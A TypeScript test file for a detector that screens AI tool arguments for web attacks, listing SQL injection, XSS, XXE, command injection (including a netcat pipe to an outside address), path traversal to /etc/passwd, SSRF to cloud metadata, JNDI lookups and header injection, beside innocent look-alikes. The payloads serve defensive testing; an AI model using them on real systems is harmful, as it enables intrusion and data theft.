import { describe, expect, it } from 'vitest'
import { webAttack } from '../../../../src/screen/detectors/web-attack.ts'
import { describeCorpus, findingsOf, rulesOf } from '../../../fixtures/screen/corpus.ts'

describeCorpus(webAttack, {
  origin: 'tool-argument',
  attacks: [
    ['sqli/always', "7' or '1'='1"],
    ['sqli/always', '12 OR 3=3'],
    ['sqli/union', '-1 UNION ALL SELECT name, pass FROM users'],
    ['sqli/union', '1/**/union/**/select/**/1,2'],
    ['sqli/stacked', "x'; DROP TABLE orders"],
    ['sqli/function', '1 and pg_sleep(5)'],
    ['sqli/function', "1'; waitfor delay '0:0:5'"],
    ['sqli/comment', "admin' --"],
    ['sqli/order', '1 order by 9--'],
    ['xss/script', '<script>fetch(1)</script>'],
    ['xss/script', 'JaVaScRiPt:alert(1)'],
    ['xss/script', '%3Cscript%3Ealert(1)%3C/script%3E'],
    ['xss/handler', '<img src=x onerror=go()>'],
    ['xss/handler', '"><p onmouseover="go()">'],
    ['xxe/entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>'],
    ['cmdi/joined', 'report.pdf; cat notes'],
    ['cmdi/joined', 'eth0 | nc 203.0.113.9 99'],
    ['cmdi/program', '() { :;}; echo x'],
    ['cmdi/program', '<?php phpinfo(); ?>'],
    ['traversal/dots', '../../../../secret.txt'],
    ['traversal/dots', '..%2f..%2f..%2fsecret.txt'],
    ['traversal/dots', '%252e%252e%252f%252e%252e%252f%252e%252e%252fboot'],
    ['traversal/dots', '..%c0%af..%c0%af..%c0%afetc/x'],
    ['traversal/file', '/etc/passwd'],
    ['traversal/file', 'C:\\Windows\\win.ini'],
    ['traversal/null', 'photo.php%00.jpg'],
    ['ssrf/inside', 'http://169.254.169.254/latest/meta-data/'],
    ['ssrf/inside', 'gopher://h:25/_x'],
    ['template/expression', '{{7*7}}'],
    ['template/expression', '${jndi:ldap://h/a}'],
    ['nosqli/operator', '{"$gt": ""}'],
    ['nosqli/operator', 'user[$ne]=1'],
    ['ldapi/filter', '*)(uid=*))(|(uid=*'],
    ['header/newline', 'en\r\nSet-Cookie: a=b'],
  ],
  innocent: [
    "Jeanne d'Arc",
    "rock 'n' roll or jazz",
    'Select one of the two options',
    "SELECT name FROM users WHERE city = 'Bonn' OR id = 7",
    'SELECT table_name FROM information_schema.tables',
    'ls -la | grep cfg && cat notes.txt',
    'cd src && npm test; echo done',
    'git commit -m "fix: sleep; then id"',
    '../src/index.ts',
    '../../lib/parse.ts',
    'src/etc/passwords.test.ts',
    '/home/ana/notes/plan.md',
    '/var/log/app/today.log',
    'https://shop.example/s?q=blue+shoes&page=2',
    'http://localhost:8080/health',
    'Tom & Jerry; a classic',
    'R&D, Q&A and so on',
    '5 < 6 and 7 > 3',
    '2024-05-01T10:00:00Z',
    'ana+news@firm.example',
    'C++ or C#?',
    'x = y || z',
    '(a|b)*c',
    '{"name": "Ana", "age": 7}',
    '{{ first_name }}',
    '$12.50 (incl. 20 % VAT)',
    'function f(a) { return a * 2 }',
    '<b>Hello</b>',
    'It cost 5--6 euros -- more or less.',
    '# Heading\n- point',
    '--name org-trail --region eu',
    '100% cotton, 40°C',
    '北京市海淀区 5号楼; 3层',
  ],
  hostile: ["' or ", '../', '%25', '<a ', 'union ', '{{', '; ', '%c0%ae', '0x2e', 'select '],
})

describe('a value', () => {
  it('that is long, or has many lines, is a text or a program', () => {
    const attack = "1' or '1'='1"

    expect(rulesOf(webAttack, `${attack}${' '.repeat(512)}`, 'tool-argument')).toEqual([])
    expect(rulesOf(webAttack, `a\nb\nc\nd\n${attack}`, 'tool-argument')).toEqual([])
  })

  it('that is prose may speak of everything', () => {
    const prose = "The course says that a login as admin' -- was once a well known trick, and shows it"

    expect(rulesOf(webAttack, prose, 'tool-argument')).toEqual([])
  })

  it('is found whole', () => {
    expect(findingsOf(webAttack, '{{7*7}}', 'tool-argument')).toEqual([
      { detector: 'web-attack', rule: 'template/expression', score: 0.8, start: 0, end: 7 },
    ])
  })

  it('of other origins is not looked at', () => {
    expect(webAttack.origins).toEqual(['tool-argument'])
  })
})
